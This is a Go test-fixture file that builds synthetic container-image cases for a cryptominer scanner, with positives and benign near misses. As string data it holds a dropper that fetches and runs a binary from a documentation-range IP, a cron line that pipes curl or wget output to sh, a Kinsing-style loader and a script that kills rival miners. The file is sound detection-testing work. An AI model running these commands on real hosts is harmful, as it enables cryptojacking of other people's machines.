package samples

import (
	"encoding/json"
	"slices"
	"strings"
)

// File is one file of a synthetic image layer.
type File struct {
	Path string // absolute, "/usr/bin/kworker"
	Mode int64  // permission bits
	Data []byte
}

// Case is one labelled synthetic image: the files of its layer and,
// optionally, the image config that runs them. Positives must be refused;
// near misses (NearMisses) carry weak indicators and must not be.
type Case struct {
	Name   string // "xmrig-6-renamed"
	Family string // what it stands for: "xmrig", "gpu", "dropper", "packer", ...
	Files  []File
	Config []byte // image config JSON, nil for none
	// Rules are the rules expected to find it (any one of them suffices
	// for a positive); for a near miss, the rules expected to warn.
	Rules []string
}

// Wallet is a Monero-shaped address (the Monero General Fund's public
// donation address, published in Monero's own documentation).
const Wallet = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A"

// EthWallet is a made-up Ethereum-shaped address.
const EthWallet = "0x5a0b54d5dc17e0aadc383d2db43b0a0d3e029c4c"

// Pool is a reserved, unresolvable pool host name and port.
const Pool = "pool.example.invalid:3333"

// ImageConfig returns an image config JSON with the given command and
// environment, and history entries as created_by.
func ImageConfig(entrypoint, cmd, env []string, history ...string) []byte {
	type hist struct {
		CreatedBy string `json:"created_by"`
	}
	cfg := map[string]any{
		"architecture": "amd64",
		"os":           "linux",
		"config": map[string]any{
			"Entrypoint": entrypoint,
			"Cmd":        cmd,
			"Env":        append([]string{"PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"}, env...),
		},
		"rootfs": map[string]any{"type": "layers", "diff_ids": []string{}},
	}
	var hs []hist
	for _, h := range history {
		hs = append(hs, hist{h})
	}
	if hs != nil {
		cfg["history"] = hs
	}
	b, err := json.Marshal(cfg)
	if err != nil {
		panic(err)
	}
	return b
}

func exe(path string, data []byte) File    { return File{Path: path, Mode: 0o755, Data: data} }
func text(path string, data string) File   { return File{Path: path, Mode: 0o644, Data: []byte(data)} }
func script(path string, data string) File { return File{Path: path, Mode: 0o755, Data: []byte(data)} }
func one(name, family string, f File, rules ...string) Case {
	return Case{Name: name, Family: family, Files: []File{f}, Rules: rules}
}

// Positives returns the synthetic positives, one or more per family the
// default rules cover. Every one must be refused by the default policy.
func Positives() []Case {
	return slices.Concat(minerPositives(), dropperPositives(), imagePositives(), archivePositives(), wrapperPositives())
}

// minerPositives are miner executables across families, versions and
// disguises.
func minerPositives() []Case {
	return []Case{
		// XMRig across versions and disguises.
		one("xmrig-2-2018", "xmrig", exe("/usr/local/bin/xmrig", ELF("XMRig/2.6.4 (Linux x86_64) libuv/1.20.3 gcc/7.3.0", "donate.xmrig.com", "--donate-level=N", "cryptonight", "cryptonight-lite", "stratum+tcp://")), "MinerXMRig"),
		one("xmrig-5", "xmrig", exe("/opt/xmrig/xmrig", ELF("XMRig/5.11.1 (Linux x86_64) libuv/1.34.2 gcc/9.3.0", "donate.v2.xmrig.com", "randomx", "rx/0", "cn/r")), "MinerXMRig"),
		one("xmrig-6-renamed", "xmrig", exe("/usr/bin/kworker", XMRig()), "MinerXMRig"),
		one("xmrig-6-no-exec-bit", "xmrig", File{Path: "/var/cache/.sys/dbus", Mode: 0o644, Data: ELF("--donate-level", "randomx", "rx/0")}, "MinerXMRig"),
		one("xmrig-stripped-strings", "xmrig", exe("/bin/x", ELF("xmrig", "RandomX", "cryptonight/r", "stratum+tcp://")), "MinerXMRig"),
		one("xmrig-no-name-no-donate", "xmrig", exe("/usr/sbin/systemd-helper", ELF("donate-over-proxy", "huge-pages-jit", "max-threads-hint", "submit-to-origin", "rx/wow", "argon2/chukwav2", "ghostrider")), "MinerXMRigInternals"),
		one("xmrig-static-embedded-config", "xmrig", exe("/usr/local/bin/node-exporter", ELF("randomx", "rx/0", string(XMRigConfigStratum()))), "MinerStratumExecutable", "MinerXMRig"),
		one("xmr-stak", "xmr-stak", exe("/usr/bin/xmr-stak", ELF("xmr-stak-cpu 2.10.8", "Brought to you by fireice_uk and psychocrypt", "pool_address", "wallet_address", "cryptonight_v8")), "MinerXMRStak"),
		one("minerd", "cpuminer", exe("/usr/local/bin/minerd", ELF("Usage: minerd [OPTIONS]", "scrypt", "sha256d", "mining.subscribe", "mining.authorize", "--coinbase-addr=ADDR")), "MinerCPUMiner"),
		one("cpuminer-opt", "cpuminer", exe("/usr/bin/cpuminer", ELF("cpuminer-opt 3.19.6", "JayDDee", "mining.subscribe", "mining.authorize", "stratum+tcp://")), "MinerCPUMiner"),
		one("cpuminer-multi", "cpuminer", exe("/opt/cpuminer-multi/cpuminer", ELF("cpuminer-multi 1.3.7 by tpruvot", "--algo=ALGO", "mining.subscribe", "stratum+tcp://")), "MinerCPUMiner"),
		one("ccminer", "gpu", exe("/usr/local/bin/ccminer", ELF("ccminer 2.3.1-tpruvot", "--cuda-schedule", "mining.subscribe", "mining.authorize")), "MinerGPU"),
		one("cgminer", "gpu", exe("/usr/bin/cgminer", ELF("cgminer 4.12.0", "mining.subscribe", "getwork", "--api-listen")), "MinerGPU"),
		one("bfgminer", "gpu", exe("/usr/bin/bfgminer", ELF("bfgminer 5.5.0", "mining.subscribe", "getwork")), "MinerGPU"),
		one("ethminer", "gpu", exe("/usr/local/bin/ethminer", ELF("ethminer 0.19.0", "ethash", "stratum1+tcp://", "eth_submitWork")), "MinerGPU"),
		one("lolminer", "gpu", exe("/opt/lolMiner/lolMiner", ELF("lolMiner 1.76", "ethash", "autolykos2", "stratum+tcp://")), "MinerGPU"),
		one("t-rex", "gpu", exe("/opt/t-rex/t-rex", ELF("T-Rex 0.26.8 NVIDIA GPU miner", "kawpow", "ethash", "stratum+tcp://")), "MinerGPU"),
		one("nbminer", "gpu", exe("/opt/nbminer/nbminer", ELF("NBMiner 42.3", "kawpow", "ethash", "stratum+ssl://")), "MinerGPU"),
		one("phoenixminer", "gpu", exe("/opt/PhoenixMiner", ELF("PhoenixMiner 6.2c", "ethash", "etchash", "eth_submitWork")), "MinerGPU"),
		one("gminer", "gpu", exe("/opt/gminer/miner", ELF("GMiner v3.44", "ethash", "kawpow", "mining.subscribe")), "MinerGPU"),
		one("nanominer", "gpu", exe("/opt/nanominer/nanominer", ELF("nanominer version 3.8.5", "ethash", "autolykos", "mining.subscribe")), "MinerGPU"),
		one("srbminer", "gpu", exe("/opt/srb/SRBMiner-MULTI", ELF("SRBMiner-MULTI 2.4.5", "autolykos2", "stratum+tcp://", "mining.subscribe")), "MinerGPU"),
		one("teamredminer", "gpu", exe("/opt/trm/teamredminer", ELF("teamredminer v0.10.21", "ethash", "kawpow", "mining.subscribe")), "MinerGPU"),
		one("stratum-in-elf", "miner", exe("/usr/local/bin/worker", ELF("stratum+tcp://eu.pool.example.org:3333")), "MinerStratumExecutable"),
		one("stratum-protocol-elf", "miner", exe("/usr/sbin/netd", ELF("mining.subscribe", "mining.authorize", "cryptonight")), "MinerProtocolExecutable"),
	}
}

// dropperPositives are Kinsing, dropper scripts, crons, services and
// miner configuration files.
func dropperPositives() []Case {
	return []Case{
		// Kinsing.
		one("kinsing-kdevtmpfsi", "kinsing", exe("/tmp/kdevtmpfsi", Filler(3000)), "KinsingBinary"),
		one("kinsing-loader-by-name", "kinsing", File{Path: "/var/tmp/kinsing", Mode: 0o600, Data: ELF("main.main")}, "KinsingBinary"),
		one("kinsing-go-loader-renamed", "kinsing", exe("/usr/bin/dbus-update", ELF("main.minerRunningCheck", "main.downloadAndExecute", "main.masscan", "main.getActiveC2CUrl")), "KinsingGoLoader"),
		one("kinsing-dropper", "kinsing", script("/usr/local/bin/start.sh", KinsingDropper()), "KinsingDropper"),

		// Scripts, crons, services.
		one("dropper-sh", "dropper", script("/docker-entrypoint.sh", string(Dropper())), "DropperMinerScript", "MinerStratumScript", "MinerCommandLine"),
		one("dropper-no-stratum", "dropper", script("/root/.x/init.sh", "#!/bin/bash\ncurl -s -o /tmp/.x http://198.51.100.9/xmrig && chmod 755 /tmp/.x && /tmp/.x -c /tmp/.x.json\n"), "DropperMinerScript"),
		one("cron-miner-line", "dropper", text("/etc/cron.d/sysupdate", "* * * * * root /opt/.cache/sysupdate -o pool.example.invalid:4444 -u "+Wallet+" -k --tls\n"), "MinerCommandLine"),
		one("crontab-spool", "dropper", text("/var/spool/cron/crontabs/root", "*/10 * * * * /tmp/.x/kworker -o stratum+tcp://"+Pool+" -u "+Wallet+"\n"), "MinerStratumScript", "MinerCommandLine"),
		one("rival-killer", "dropper", script("/opt/clean.sh", RivalKiller()), "DropperMinerKiller"),
		one("systemd-unit", "miner", text("/etc/systemd/system/update.service", "[Service]\nExecStart=/usr/bin/update -a rx/0 --url stratum+ssl://pool.example.invalid:443\n"), "MinerStratumScript"),
		one("gpu-cmdline-script", "miner", script("/start.sh", "#!/bin/sh\n./PhoenixMiner -pool eth.example.invalid:4444 -wal "+EthWallet+" -worker rig1\n"), "MinerCommandLine"),

		// Miner configs.
		one("xmrig-config-current", "miner-config", text("/root/.xmrig.json", string(XMRigConfig())), "MinerXMRigConfig"),
		one("xmrig-config-2018", "miner-config", text("/opt/app/config.json", XMRigConfig2018()), "MinerXMRigConfig"),
		one("xmr-stak-pools", "miner-config", text("/opt/pools.txt", XMRStakPools()), "MinerXMRStakConfig"),
		one("cpuminer-config", "miner-config", text("/etc/cpuminer.conf", `{"url": "stratum+tcp://`+Pool+`", "user": "`+Wallet+`", "pass": "x", "algo": "cryptonight", "threads": 4}`), "MinerStratumConfig"),
		one("t-rex-config", "miner-config", text("/opt/t-rex/config.json", `{"algo": "kawpow", "pools": [{"url": "stratum+tcp://`+Pool+`", "user": "`+EthWallet+`", "pass": "x", "worker": "rig"}]}`), "MinerXMRigConfig", "MinerStratumConfig"),
		one("nanominer-ini", "miner-config", text("/opt/nanominer/config.ini", "[Ethash]\nwallet = "+EthWallet+"\nrigName = rig1\npool1 = eth.example.invalid:4444\n"), "MinerIniConfig"),
	}
}

// imagePositives are image configs, pairs of medium indicators, and
// packed executables with corroboration.
func imagePositives() []Case {
	return []Case{
		// Image configs.
		{Name: "config-cmd-xmrig-args", Family: "image-config", Config: ImageConfig(nil, MinerCmd(), nil), Rules: []string{"MinerInImageConfig", "MinerCommandLine"}},
		{Name: "config-entrypoint-gpu", Family: "image-config", Config: ImageConfig([]string{"/opt/PhoenixMiner", "-pool", "eth.example.invalid:4444", "-wal", EthWallet}, nil, nil), Rules: []string{"MinerCommandLine"}},
		{Name: "config-history-download", Family: "image-config", Config: ImageConfig([]string{"/bin/sh"}, nil, nil,
			"/bin/sh -c wget -q https://downloads.example.invalid/xmrig-6.21.0-linux-static-x64.tar.gz && tar xzf xmrig-6.21.0-linux-static-x64.tar.gz"), Rules: []string{"MinerDownloadInImageConfig"}},
		{Name: "config-cmd-no-stratum", Family: "image-config", Config: ImageConfig([]string{"/usr/bin/node-agent"}, []string{"--url", Pool, "--user", Wallet, "--tls"}, nil), Rules: []string{"MinerCommandLine"}},

		// Two medium indicators in one image.
		{Name: "miner-name-and-tuning", Family: "medium-pair", Files: []File{
			exe("/usr/local/bin/xmrig-notls", []byte("#!/bin/sh\nexec /usr/local/lib/run \"$@\"\n")),
			script("/usr/local/bin/boost.sh", TuningScript()),
		}, Rules: []string{"MinerNameExecutable", "MinerTuningScript"}},
		{Name: "cron-pipe-and-stratum-data", Family: "medium-pair", Files: []File{
			text("/etc/cron.d/update", "*/5 * * * * root (curl -fsSL http://198.51.100.7/u.sh || wget -q -O- http://198.51.100.7/u.sh) | sh\n"),
			text("/var/lib/app/pool.txt", "stratum+tcp://"+Pool+"\n"),
		}, Rules: []string{"DropperCronDownload", "MinerStratumURL"}},

		// Packed executables with corroboration (docs/detection.md).
		{Name: "upx-miner-with-wallet-config", Family: "packer", Files: []File{
			exe("/usr/bin/kworker", UPX(XMRig(), false)),
			text("/etc/kworker.json", `{"pools": [{"url": "`+Pool+`", "user": "`+Wallet+`"}]}`),
		}, Config: ImageConfig([]string{"/usr/bin/kworker", "-c", "/etc/kworker.json"}, nil, nil), Rules: []string{"PackerUPX", "MoneroWalletAddress"}},
		{Name: "upx-miner-wallet-in-env", Family: "packer", Files: []File{
			exe("/app/agent", UPX(XMRig(), false)),
		}, Config: ImageConfig([]string{"/app/agent"}, nil, []string{"WALLET=" + Wallet}), Rules: []string{"PackerUPX", "MoneroWalletAddress"}},
		{Name: "upx-altered-with-stratum-data", Family: "packer", Files: []File{
			exe("/usr/sbin/sshd-helper", UPX(XMRig(), true)),
			text("/usr/share/helper/endpoints", "stratum+tcp://"+Pool+"\n"),
		}, Rules: []string{"PackerUPXAltered", "MinerStratumURL"}},
		{Name: "upx-altered-32bit-with-wallet", Family: "packer", Files: []File{
			exe("/bin/netd", UPX32(XMRig(), true)),
			text("/bin/.netd.conf", "WALLET="+Wallet+"\n"),
		}, Rules: []string{"PackerUPXAltered", "MoneroWalletAddress"}},
	}
}

// NearMisses are synthetic images with weak indicators only, or with
// the words of the trade in benign places. None may be refused.
func NearMisses() []Case {
	return append([]Case{
		one("upx-packed-go-tool", "packer", exe("/usr/local/bin/helm", UPX(ELF("runtime.main", "net/http", "k8s.io/client-go"), false)), "PackerUPX"),
		{Name: "upx-tool-and-pool-blocklist", Family: "packer", Files: []File{
			exe("/usr/local/bin/dnsd", UPX(ELF("runtime.main", "github.com/miekg/dns"), false)),
			text("/etc/dnsd/blocklist.txt", "# mining pools\npool.supportxmr.com\nxmr-eu1.nanopool.org\npool.minexmr.com\n"),
		}, Rules: []string{"PackerUPX", "MiningPoolDomain"}},
		one("pool-blocklist", "pool", text("/etc/pihole/mining.list", "0.0.0.0 pool.supportxmr.com\n0.0.0.0 xmr.2miners.com\n0.0.0.0 gulf.moneroocean.stream\n"), "MiningPoolDomain"),
		one("wallet-in-env-file", "wallet", text("/app/.env", "PORT=8080\nWALLET="+Wallet+"\n"), "MoneroWalletAddress"),
		one("stratum-in-docs", "pool", text("/usr/share/doc/pool/README.md", "Point miners at stratum+tcp://"+Pool+"\n"), "MinerStratumURL"),
		one("miner-name-only", "miner", exe("/usr/local/bin/xmrig-proxy", []byte("#!/bin/sh\necho not really\n")), "MinerNameExecutable"),
		one("hugepages-db-tuning", "script", script("/docker-entrypoint-initdb.d/tune.sh", "#!/bin/sh\nsysctl -w vm.nr_hugepages=1024\necho 1024 > /proc/sys/vm/nr_hugepages\nexec postgres\n")),
		one("entrypoint-curl-chmod", "script", script("/usr/local/bin/docker-entrypoint.sh", "#!/bin/sh\nset -e\ncurl -fsSL https://example.com/cfg -o /etc/app.conf\nchmod 0644 /etc/app.conf\nexec \"$@\"\n")),
		one("app-config-pools", "config", text("/app/config.json", `{"pools": [{"url": "postgres://db:5432", "user": "app"}], "log": "info"}`)),
		{Name: "config-miner-name-only", Family: "image-config", Config: ImageConfig([]string{"/usr/local/bin/xmrig-exporter"}, []string{"--listen", ":9189"}, nil), Rules: []string{"MinerNameInImageConfig"}},
	}, archiveNearMisses()...)
}

// XMRigConfigStratum is an xmrig config whose pool URL has a stratum scheme.
func XMRigConfigStratum() []byte {
	return []byte(strings.Replace(string(XMRigConfig()), `"url": "pool.example.invalid:3333"`, `"url": "stratum+tcp://pool.example.invalid:3333"`, 1))
}

// XMRigConfig2018 is an xmrig 2.x config.json in the commented format of
// 2018.
func XMRigConfig2018() string {
	return `{
    "algo": "cryptonight",  // cryptonight (default) or cryptonight-lite
    "av": 0,                // algorithm variation, 0 auto select
    "background": false,    // true to run the miner in the background
    "colors": true,         // false to disable colored output
    "cpu-affinity": null,   // set process affinity to CPU core(s), mask "0x3" for cores 0 and 1
    "cpu-priority": null,   // set process priority (0 idle, 2 normal to 5 highest)
    "donate-level": 5,      // donate level, mininum 1%
    "log-file": null,       // log all output to a file, example: "c:/some/path/xmrig.log"
    "max-cpu-usage": 75,    // maximum CPU usage for automatic mode, usually limiting factor is CPU cache not this option.
    "print-time": 60,       // print hashrate report every N seconds
    "retries": 5,           // number of times to retry before switch to backup server
    "retry-pause": 5,       // time to pause between retries
    "safe": false,          // true to safe adjust threads and av settings for current CPU
    "threads": null,        // number of miner threads
    "pools": [
        {
            "url": "` + Pool + `",   // URL of mining server
            "user": "` + Wallet + `",  // username for mining server
            "pass": "x",                     // password for mining server
            "keepalive": true,               // send keepalived for prevent timeout (need pool support)
            "nicehash": false                // enable nicehash/xmrig-proxy support
        }
    ]
}
`
}

// XMRStakPools is an xmr-stak pools.txt.
func XMRStakPools() string {
	return `"pool_list" :
[
	{"pool_address" : "` + Pool + `", "wallet_address" : "` + Wallet + `", "rig_id" : "", "pool_password" : "x", "use_nicehash" : false, "use_tls" : false, "tls_fingerprint" : "", "pool_weight" : 1 },
],
"currency" : "monero",
`
}

// KinsingDropper is a shell script in the style of Kinsing's loader.
func KinsingDropper() string {
	return "#!/bin/bash\n" +
		"pkill -f kdevtmpfsi\n" +
		"curl -s http://198.51.100.9/kinsing -o /tmp/kdevtmpfsi\n" +
		"chmod +x /tmp/kdevtmpfsi && /tmp/kdevtmpfsi &\n"
}

// RivalKiller is a script that kills other miners and takes the host.
func RivalKiller() string {
	return `#!/bin/sh
ps aux | grep -v grep | grep 'stratum' | awk '{print $2}' | xargs kill -9
pkill -9 -f xmrig
killall -9 minerd
chattr -i /etc/crontab
echo 1280 > /proc/sys/vm/nr_hugepages
`
}

// TuningScript raises huge pages and writes MSRs the way RandomX miners'
// boost scripts do.
func TuningScript() string {
	return "#!/bin/sh\nsysctl -w vm.nr_hugepages=1280\nmodprobe msr allow_writes=on\nwrmsr -a 0xc0011020 0\nwrmsr -a 0x1a4 0xf\n"
}
